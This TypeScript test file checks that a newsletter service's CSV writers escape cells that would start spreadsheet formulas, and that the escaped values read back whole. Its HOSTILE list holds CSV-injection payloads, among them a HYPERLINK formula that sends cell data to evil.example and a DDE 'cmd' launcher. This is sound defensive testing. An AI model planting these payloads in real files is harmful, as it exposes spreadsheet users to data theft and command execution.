/**
 * Every CSV the service, the CLI and the console write, with hostile cells ([csv.formula-cells]):
 * no cell of any of them starts a spreadsheet formula, and each hostile value comes back whole
 * through `unescapeCell`. The writers are found, not listed by hand: a module that takes up
 * csv-stringify, or builds CSV by joining cells, fails the last test until it is walked here.
 */
import { mkdtemp, readdir, readFile, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { PassThrough } from 'node:stream';
import { parse } from 'csv-parse/sync';
import { afterAll, describe, expect, it } from 'vitest';
import { writeReport } from '../../cli/campaigns/write-report.ts';
import type { Services } from '../../cli/connection/services.ts';
import type { CliIo } from '../../cli/io.ts';
import { ErrorReport } from '../../cli/subscribers/error-report.ts';
import { exportSubscribers } from '../../cli/subscribers/export-subscribers.ts';
import { notImportedCsv } from '../../console/src/import-run.ts';
import type { CampaignStore } from '../../shared/adapters/store/campaign-store-port.ts';
import type { CampaignRecord } from '../../shared/domain/campaign/campaign.ts';
import type { RecipientRecord } from '../../shared/domain/campaign/recipient.ts';
import { isNewsletterError } from '../../shared/domain/errors.ts';
import { escapeCell, unescapeCell } from '../../shared/domain/spreadsheet-cells.ts';
import type { SubscriberRecord } from '../../shared/domain/subscriber.ts';
import { v2ReportCsvPart } from '../../shared/operations/v2/v2-report-csv.ts';
import { v2SubscribersCsvPart } from '../../shared/operations/v2/v2-subscribers-csv.ts';
import { testSettings } from '../support/fixtures.ts';

/** Cells a spreadsheet would run, or hide a formula behind (OWASP "CSV Injection", issue 47). */
const HOSTILE = [
  '=HYPERLINK("https://evil.example/?d="&A1,"Click")',
  "+1+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(A1:A9)',
  '\t=1+1',
  '\r=1+1',
  '|calc',
  "'=1+1",
];
/** Addresses the address grammar allows that start as a formula would. */
const HOSTILE_ADDRESSES = ['=x@example.com', '+x@example.com', '-x@example.com', '|x@example.com'];

const FORMULA_START = /^[=+\-@\t\r|]/;

/** Every cell of a CSV text; none may start a formula. */
function expectSafe(text: string, writer: string): string[][] {
  const rows = parse(text, { relax_column_count: true }) as string[][];
  expect(rows.length, writer).toBeGreaterThan(1);
  const unsafe = rows.flat().filter((cell) => FORMULA_START.test(cell));
  expect(unsafe, writer).toEqual([]);
  return rows;
}

/** The hostile values, read back as an import reads a cell. */
function expectWhole(rows: string[][], values: readonly string[], writer: string): void {
  const cells = new Set(rows.flat().map(unescapeCell));
  for (const value of values)
    expect(cells.has(value), `${writer}: ${JSON.stringify(value)}`).toBe(true);
}

const settings = testSettings({ profile_fields: [{ id: 'city', name: 'City' }] });
const ISSUE = 9;

/** Recipient records of ISSUE, one per hostile address; `emailsOf` gives the addresses. */
function reportStore(): CampaignStore {
  const records = HOSTILE_ADDRESSES.map(
    (_, index): RecipientRecord => ({
      newsletter_id: ISSUE,
      subscriber_id: index + 1,
      state: 'sent',
      run: 1,
      attempts: 1,
      at: '2026-12-01T09:00:00.000Z',
      message_id: `-msg-${index}`,
    }),
  );
  const campaign = {
    id: ISSUE,
    status: 'sent',
    run: 1,
    records_spread: true,
    legacy_records: false,
    total: records.length,
    sent: records.length,
    skipped: 0,
    failed: 0,
    subject: '=SUBJECT()',
    sent_at: '2026-12-01T09:00:00.000Z',
  } as CampaignRecord;
  const fake: Pick<CampaignStore, 'getCampaign' | 'recipientPage' | 'emailsOf'> = {
    getCampaign: async (id) => (id === ISSUE ? campaign : undefined),
    recipientPage: async (_space, after) => ({
      recipients: records.filter((record) => record.subscriber_id > after),
      more: false,
    }),
    emailsOf: async (ids) =>
      new Map(ids.map((id) => [id, HOSTILE_ADDRESSES[id - 1] ?? ''] as const)),
  };
  // Only what a report reads is faked.
  return fake as CampaignStore;
}

/** Subscribers whose every free-text field is hostile. */
function subscriberRecords(): SubscriberRecord[] {
  return HOSTILE.map((value, index) => ({
    id: index + 1,
    email: HOSTILE_ADDRESSES[index % HOSTILE_ADDRESSES.length]?.replace('@', `${index}@`) ?? '',
    name: value,
    surname: value,
    gender: '',
    lists: [1],
    profile: { city: value },
    status: 'C',
    created: '2026-01-01T00:00:00.000Z',
    updated: '2026-01-01T00:00:00.000Z',
    version: 1,
    tokens: {},
  }));
}

const subscriberStore = {
  async *allSubscribers() {
    yield* subscriberRecords();
  },
};

/** Standard output captured, as the CLI writes it. */
function capturedIo(): { io: CliIo; text: () => string } {
  let text = '';
  const stdout = new PassThrough();
  stdout.on('data', (chunk: Buffer) => {
    text += chunk.toString('utf8');
  });
  const io = {
    stdout,
    stderr: new PassThrough(),
    stdin: new PassThrough(),
    env: {},
    cwd: tmpdir(),
  } as unknown as CliIo;
  return { io, text: () => text };
}

const dirs: string[] = [];
afterAll(async () => {
  await Promise.all(dirs.map((dir) => rm(dir, { recursive: true, force: true })));
});

describe('[csv.formula-cells] every CSV writer, with hostile cells', () => {
  it('the service: a report’s CSV (GET /issues/{id}/report, text/csv)', async () => {
    const part = await v2ReportCsvPart({ campaigns: reportStore() }, ISSUE, undefined);
    if (isNewsletterError(part)) throw new Error(part.message);
    expectWhole(expectSafe(part.text, 'report CSV'), HOSTILE_ADDRESSES, 'report CSV');
  });

  it('the service: the subscribers’ export (GET /subscribers, text/csv)', async () => {
    const part = await v2SubscribersCsvPart(
      { store: subscriberStore, settings: async () => settings },
      {},
    );
    if (isNewsletterError(part)) throw new Error(part.message);
    expectWhole(expectSafe(part.text, 'subscribers CSV'), HOSTILE, 'subscribers CSV');
  });

  it('the CLI: newsletters report --csv', async () => {
    const { io, text } = capturedIo();
    const report = await writeReport(reportStore(), ISSUE, '-', { io });
    expect(isNewsletterError(report)).toBe(false);
    expectWhole(expectSafe(text(), 'CLI report'), HOSTILE_ADDRESSES, 'CLI report');
  });

  it('the CLI: subscribers export', async () => {
    const { io, text } = capturedIo();
    // Only the listing an export reads is faked.
    const services = { store: () => subscriberStore } as unknown as Services;
    await exportSubscribers(services, settings, { format: 'csv' }, io);
    expectWhole(expectSafe(text(), 'CLI export'), HOSTILE, 'CLI export');
  });

  it('the CLI: an import’s FILE.errors.csv, also when a resumed import keeps its lines', async () => {
    const dir = await mkdtemp(join(tmpdir(), 'csv-writers-'));
    dirs.push(dir);
    const path = join(dir, 'in.csv.errors.csv');
    const report = ErrorReport.open(path, undefined);
    HOSTILE.forEach((value, index) => {
      report.add(index + 2, value, 'invalid_email', value);
    });
    report.close();
    const first = await readFile(path, 'utf8');
    expectWhole(expectSafe(first, 'errors CSV'), HOSTILE, 'errors CSV');
    // A resume keeps the lines up to its checkpoint, as they were: escaped once, not twice.
    ErrorReport.open(path, 100).close();
    expect(await readFile(path, 'utf8')).toBe(first);
  });

  it('the console: the rows an import did not take', () => {
    const text = notImportedCsv(
      HOSTILE.map((value, index) => ({ line: index + 2, row: value, code: 'x', reason: value })),
    );
    expectWhole(expectSafe(text, 'console rows not imported'), HOSTILE, 'console');
  });

  it('escapes only what a spreadsheet would run, and reads back exactly', () => {
    for (const value of [...HOSTILE, ...HOSTILE_ADDRESSES])
      expect(unescapeCell(escapeCell(value))).toBe(value);
    for (const plain of ['a@example.com', 'Zoë', '', '12', "O'Brien"])
      expect(escapeCell(plain)).toBe(plain);
  });
});

describe('[csv.formula-cells] the writers walked above are all there are', () => {
  const ROOT = join(import.meta.dirname, '../..');
  const SOURCES = ['shared', 'cli', 'console/src', 'functions', 'infra', 'bin'];

  async function sources(): Promise<{ path: string; text: string }[]> {
    const found: { path: string; text: string }[] = [];
    for (const dir of SOURCES) {
      for (const name of await readdir(join(ROOT, dir), { recursive: true })) {
        if (!/\.(ts|tsx|mjs)$/.test(name)) continue;
        const path = join(dir, name);
        found.push({ path, text: await readFile(join(ROOT, path), 'utf8') });
      }
    }
    return found;
  }

  it('finds csv-stringify only in the writers walked, each with SAFE_CELLS', async () => {
    const writers = (await sources()).filter(({ text }) =>
      /^import (?!type )[^;]*from 'csv-stringify/m.test(text),
    );
    expect(writers.map(({ path }) => path).sort()).toEqual([
      'cli/campaigns/write-report.ts',
      'cli/subscribers/error-report.ts',
      'cli/subscribers/export-subscribers.ts',
      'console/src/import-run.ts',
      'shared/operations/v2/v2-report-csv.ts',
      'shared/operations/v2/v2-subscribers-csv.ts',
    ]);
    for (const { path, text } of writers) expect(text, path).toContain('SAFE_CELLS');
  });

  it('finds no CSV joined by hand: every `.join(",")` is of something else', async () => {
    const joined = (await sources())
      .filter(({ text }) => /\.join\(['"],['"]\)/.test(text))
      .map(({ path }) => path)
      .sort();
    // A table's list ids, an environment variable, repeated headers, a log field's names, the
    // campaigns an issue shares the rate with (a log field), and a refused row quoted in a JSON
    // answer.
    expect(joined).toEqual([
      'cli/commands/newsletters.ts',
      'infra/cdk/newsletter-stack.ts',
      'infra/local/cloud/aws-endpoint.ts',
      'shared/operations/campaign/control-campaign.ts',
      'shared/operations/subscribe.ts',
      'shared/operations/subscribers/import-csv-part.ts',
    ]);
  });
});
